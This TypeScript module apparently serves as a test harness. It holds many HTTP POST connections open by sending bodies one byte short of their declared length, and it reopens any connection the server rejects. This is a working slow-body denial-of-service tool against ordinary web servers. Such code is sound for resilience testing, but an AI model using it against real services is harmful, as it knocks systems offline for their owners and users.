import { type Socket, connect } from 'node:net';

/** Keeps a number of requests open whose bodies stop one byte before their end. */
export interface Stall {
  /** The number of these requests that are not rejected at this moment. */
  countOpen(): number;
  stop(): void;
}

export interface StallOptions {
  /** The URL of a service. */
  readonly url: string;
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly count: number;
}

const BODY_BYTES = 1024 * 1024;
/** Shared by all requests, so that it costs the sender almost nothing. */
const BODY = Buffer.alloc(BODY_BYTES - 1, ' ');
/** A shorter pause would let the sender alone load the machine. */
const AGAIN_AFTER_MS = 4000;
const SPREAD_OVER_MS = 2000;

export function stallBodies({ url, path, headers, count }: StallOptions): Stall {
  const { hostname, port } = new URL(url);
  const sockets = new Set<Socket>();
  const timers = new Set<NodeJS.Timeout>();
  let isStopped = false;
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}`);
  const head = [
    `POST ${path} HTTP/1.1`,
    `Host: ${hostname}`,
    `Content-Length: ${BODY_BYTES}`,
    ...lines,
    '',
    '',
  ];

  function openIn(ms: number): void {
    const timer = setTimeout(() => {
      timers.delete(timer);
      if (!isStopped) open();
    }, ms);
    timers.add(timer);
  }

  function open(): void {
    const socket = connect(Number(port), hostname);
    sockets.add(socket);
    socket.on('error', () => undefined);
    // A rejected request is repeated, as an attacker would do.
    socket.once('data', () => socket.destroy());
    socket.once('close', () => {
      sockets.delete(socket);
      openIn(AGAIN_AFTER_MS + Math.random() * SPREAD_OVER_MS);
    });
    socket.write(head.join('\r\n'));
    socket.write(BODY);
  }

  for (let n = 0; n < count; n += 1) openIn(Math.random() * SPREAD_OVER_MS);
  return {
    countOpen: () => sockets.size,
    stop() {
      isStopped = true;
      for (const timer of timers) clearTimeout(timer);
      for (const socket of sockets) socket.destroy();
    },
  };
}
